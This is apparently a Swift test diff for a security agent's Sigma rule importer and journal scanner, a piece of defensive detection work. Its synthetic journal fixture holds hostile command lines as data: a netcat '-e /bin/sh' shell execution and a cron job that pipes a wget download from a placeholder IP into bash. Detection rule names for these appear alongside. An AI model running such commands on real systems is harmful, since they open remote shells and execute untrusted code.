@@ -1,3 +1,4 @@
+import CanhModel
 import Foundation
 import TestSupport
 import Testing
@@ -167,5 +168,60 @@ import Testing
         let result = try ProcessRunner.run(agent, ["--version"])
         #expect(result.status == 0)
         #expect(result.outputLines == ["0.1.0"])
+    }
+
+    @Test("import-sigma converts what the journal carries, names every refusal, and the result checks and scans as a pack")
+    func importSigma() throws {
+        let directory = try TemporaryDirectory()
+        let fixtures = ProcessRunner.repositoryRoot + "/Tests/SigmaImportTests/Fixtures"
+        let pack = directory.file("rules")
+        try FileManager.default.copyItem(atPath: rules, toPath: pack)
+        let imported = try ProcessRunner.run(agent, ["rules", "import-sigma", fixtures, "--output", pack + "/sigma"])
+        #expect(imported.status == 1, "some fixtures are not importable by design")
+        let refusals = imported.outputLines.filter { $0.hasPrefix("not importable: ") }
+        #expect(
+            refusals.map { $0.components(separatedBy: ": ")[1].replacingOccurrences(of: fixtures + "/", with: "") } == [
+                "refused/aggregation.yml", "refused/bad_regex.yml", "refused/base64_modifier.yml", "refused/linux_process_creation.yml",
+                "refused/no_id.yml", "refused/unknown_field.yml", "refused/windows_process.yml",
+            ])
+        #expect(refusals.contains { $0.contains("bad_regex.yml: the converted rule does not compile") })
+        #expect(imported.outputLines.last == "imported 5 of 12 Sigma rules into \(pack)/sigma")
+
+        let checked = try ProcessRunner.run(agent, ["rules", "check", pack])
+        #expect(checked.status == 0, "\(checked.standardOutput)")
+        #expect(checked.outputLines.contains { $0.hasPrefix("5 imported Sigma rule(s) cite no requirement") })
+        #expect(checked.outputLines.contains("5 imported Sigma rule(s) have no embedded tests yet"))
+
+        let start = Timestamp.at("2026-11-22T03:00:00Z")
+        func entry(_ offset: Int64, _ fields: [(String, String)]) -> FixtureEntry {
+            FixtureEntry(
+                time: start + .seconds(offset), fields: fields.map { ($0.0, Array($0.1.utf8)) } + [("_HOSTNAME", Array("web01".utf8))])
+        }
+        let journal = try JournalFixture.write(
+            [
+                entry(
+                    0,
+                    [
+                        ("SYSLOG_IDENTIFIER", "sshd"), ("_COMM", "sshd"),
+                        ("MESSAGE", "Failed password for root from 203.0.113.5 port 1 ssh2"),
+                    ]),
+                entry(
+                    1,
+                    [("SYSLOG_IDENTIFIER", "sshd"), ("_COMM", "sshd"), ("MESSAGE", "Failed password for hoa from 10.10.1.7 port 1 ssh2")]),
+                entry(
+                    2,
+                    [
+                        ("SYSLOG_IDENTIFIER", "audit"), ("_TRANSPORT", "audit"), ("_AUDIT_TYPE_NAME", "EXECVE"),
+                        ("MESSAGE", #"EXECVE argc=3 a0="nc" a1="-e" a2="/bin/sh""#),
+                    ]),
+                entry(3, [("SYSLOG_IDENTIFIER", "CRON"), ("MESSAGE", "(root) CMD (wget -qO- http://203.0.113.9/x | bash)")]),
+            ], named: "mixed.journal", in: directory)
+        let scanned = try ProcessRunner.run(agent, ["scan", "--rules", pack, "--journal-file", journal, "--level", "3"])
+        let sigmaRules = try scanned.outputLines.map { try FindingRecord(jsonLine: $0) }.map(\.rule).filter { $0.hasPrefix("sigma.") }
+        #expect(
+            sigmaRules.sorted() == [
+                "sigma.auditd.netcat_executed_with_a_shell", "sigma.cron.cron_job_downloading_and_piping_to_a_shell",
+                "sigma.sshd.ssh_password_refused_outside_the_admin_network",
+            ])
     }
 }
